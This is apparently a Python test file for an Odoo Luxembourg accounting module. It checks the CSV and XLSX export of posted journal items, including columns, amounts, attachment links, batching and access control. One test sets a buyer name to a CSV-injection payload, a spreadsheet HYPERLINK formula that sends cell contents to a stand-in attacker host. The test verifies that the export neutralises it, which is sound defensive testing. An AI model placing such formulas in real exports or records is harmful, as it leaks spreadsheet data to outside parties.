# Copyright 2026 Letzshop OMS contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl.html).
import csv
import datetime
import io
from unittest.mock import patch

import xlrd

from odoo.exceptions import AccessError, ValidationError
from odoo.tests import new_test_user, tagged

from ..wizards import lu_journal_export
from ..wizards.lu_journal_export import COLUMNS
from .common import VAT_FR, LuCloseCase


@tagged("post_install", "-at_install")
class TestLuJournalExport(LuCloseCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._make_q4()
        cls.export = cls.env["lu.journal.export"].create(
            {
                "date_from": datetime.date(cls.year, 10, 1),
                "date_to": datetime.date(cls.year, 12, 31),
            }
        )
        cls.expected_items = cls.env["account.move.line"].search(
            [
                ("parent_state", "=", "posted"),
                ("company_id", "=", cls.company.id),
                ("date", ">=", cls.export.date_from),
                ("date", "<=", cls.export.date_to),
                ("display_type", "not in", ("line_section", "line_note")),
            ]
        )

    def _csv_rows(self, export):
        action = export.action_export_csv()
        attachment_id = int(action["url"].split("/")[3].split("?")[0])
        raw = self.env["ir.attachment"].browse(attachment_id).raw
        self.assertTrue(raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM")
        return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))

    def test_csv_one_line_per_item(self):
        rows = self._csv_rows(self.export)
        self.assertEqual(len(rows), len(self.expected_items))
        self.assertEqual(list(rows[0]), list(COLUMNS))
        self.assertEqual(
            {int(row["line_id"]) for row in rows}, set(self.expected_items.ids)
        )
        ic_base = next(
            row
            for row in rows
            if row["entry"] == self.ic_sale.name and row["tax_tags"] == "457"
        )
        self.assertEqual(ic_base["partner_vat"], VAT_FR)
        self.assertEqual(ic_base["balance"], "-300.00")
        self.assertEqual(ic_base["credit"], "300.00")
        self.assertEqual(ic_base["company_currency"], "EUR")
        self.assertIn("intra-Community", ic_base["taxes"])
        self.assertTrue(
            ic_base["entry_url"].endswith(f"/odoo/account.move/{self.ic_sale.id}")
        )
        export_base = next(
            row
            for row in rows
            if row["entry"] == self.export_sale.name and row["tax_tags"] == "014"
        )
        self.assertEqual(export_base["currency"], "USD")
        self.assertEqual(export_base["amount_currency"], "-400.00")
        self.assertEqual(export_base["balance"], "-320.00")
        # rows come in date order, and no draft
        self.assertEqual([r["date"] for r in rows], sorted(r["date"] for r in rows))

    def test_hostile_cells_are_not_formulas(self):
        """A buyer named like a spreadsheet formula (CSV injection) is exported as
        text; negative amounts stay numbers."""
        hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Refund")'
        self.ic_sale.partner_id.name = hostile
        rows = [
            r for r in self._csv_rows(self.export) if r["entry"] == self.ic_sale.name
        ]
        self.assertTrue(rows)
        partners = {row["partner"] for row in rows if row["partner"]}
        self.assertEqual(partners, {"'" + hostile})
        self.assertIn("-300.00", [row["balance"] for row in rows])

    def test_streams_in_batches(self):
        with patch.object(lu_journal_export, "BATCH_SIZE", 3):
            rows = list(self.export._iter_rows())
        self.assertEqual(sorted(r[7] for r in rows), sorted(self.expected_items.ids))
        self.assertEqual(len(rows), len({r[7] for r in rows}))

    def test_attachment_link(self):
        attachment = self.env["ir.attachment"].create(
            {
                "name": "supplier.pdf",
                "raw": b"%PDF-1.4 test",
                "res_model": "account.move",
                "res_id": self.ic_sale.id,
            }
        )
        self.ic_sale.message_main_attachment_id = attachment
        rows = self._csv_rows(self.export)
        links = {r["attachment_url"] for r in rows if r["entry"] == self.ic_sale.name}
        self.assertEqual(len(links), 1)
        self.assertTrue(
            links.pop().endswith(f"/web/content/{attachment.id}?download=true")
        )

    def test_xlsx(self):
        data, kind = self.env["ir.actions.report"]._render_xlsx(
            "account_close_lu.action_report_journal_items_xlsx", self.export.ids, {}
        )
        self.assertEqual(kind, "xlsx")
        sheet = xlrd.open_workbook(file_contents=data).sheet_by_index(0)
        self.assertEqual(sheet.row_values(0), list(COLUMNS))
        self.assertEqual(sheet.nrows - 1, len(self.expected_items))
        col = {name: i for i, name in enumerate(COLUMNS)}
        balances = [
            sheet.cell_value(r, col["balance"])
            for r in range(1, sheet.nrows)
            if sheet.cell_value(r, col["tax_tags"]) == "014"
        ]
        self.assertEqual(balances, [-320.0])

    def test_dates_checked(self):
        with self.assertRaises(ValidationError):
            self.env["lu.journal.export"].create(
                {
                    "date_from": datetime.date(self.year, 12, 31),
                    "date_to": datetime.date(self.year, 1, 1),
                }
            )

    def test_only_accountants(self):
        user = new_test_user(
            self.env,
            login="close_export_billing",
            groups="account.group_account_invoice",
            company_id=self.company.id,
            company_ids=[self.company.id],
        )
        with self.assertRaises(AccessError):
            self.env["lu.journal.export"].with_user(user).create(
                {"date_from": self.export.date_from, "date_to": self.export.date_to}
            )
